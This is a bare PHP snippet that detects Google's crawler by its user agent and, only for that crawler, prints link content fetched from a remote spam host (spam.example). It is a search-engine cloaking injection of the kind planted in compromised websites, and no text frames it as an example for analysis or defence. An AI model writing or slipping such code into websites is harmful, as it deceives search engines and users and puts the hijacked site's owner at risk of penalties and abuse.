<?php
if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { echo file_get_contents('http://spam.example/links.txt'); }
